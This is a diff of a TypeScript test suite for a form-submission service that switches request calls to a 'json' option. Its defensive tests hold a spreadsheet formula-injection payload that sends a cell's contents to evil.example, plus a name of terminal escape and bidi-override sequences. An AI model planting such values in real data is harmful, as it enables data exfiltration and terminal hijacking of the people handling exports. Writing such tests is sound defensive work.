@@ -40,9 +40,7 @@ beforeAll(async () => {
 async function submit(name: string): Promise<string> {
   const answers = { name, email: `${name.replaceAll(' ', '.')}@example.com`, apiKey: 'secret' }
   const response = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', ...answers }),
+    json: { _gotcha: '', ...answers },
   })
   expect(response.status).toBe(200)
   await operated.service.settled()
@@ -81,9 +79,7 @@ test('what came in is a sheet with a column for each field, which no spreadsheet
   operated.service.clock.advance(1_000)
   const formula = '=HYPERLINK("https://evil.example?"&A1)'
   const send = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' }),
+    json: { _gotcha: '', name: formula, apiKey: 'secret', _utm_source: '@SUM(1)' },
   })
   const { submissionId } = (await send.json()) as { readonly submissionId: string }
   const { code, stdout, stderr } = await operator(
@@ -125,9 +121,7 @@ test('a sheet with labels has the words of each form', async () => {
   await storage.tenant('speaking').upsert('forms', [{ ...form('words'), definition }, form('more')])
   operated.service.clock.advance(1_000)
   const send = await operated.service.send('/api/forms/words/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', services: ['wash', 'other'], terms: true, who: 'Zoe' }),
+    json: { _gotcha: '', services: ['wash', 'other'], terms: true, who: 'Zoe' },
   })
   expect(operated.service.errors).toEqual([])
   const { submissionId } = (await send.json()) as { readonly submissionId: string }
@@ -151,9 +145,7 @@ test('a sheet with labels has the words of each form', async () => {
 test('answers of strangers do not command the terminal', async () => {
   const name = '\u001b]0;owned\u0007\u009b2J\u202e\nx'
   const response = await operated.service.send('/api/forms/signup/submissions', {
-    method: 'POST',
-    headers: { 'content-type': 'application/json' },
-    body: JSON.stringify({ _gotcha: '', name, email: 'odd@example.com' }),
+    json: { _gotcha: '', name, email: 'odd@example.com' },
   })
   const { submissionId } = (await response.json()) as { readonly submissionId: string }
   const list = ['submissions', 'list', '--org', 'acme']
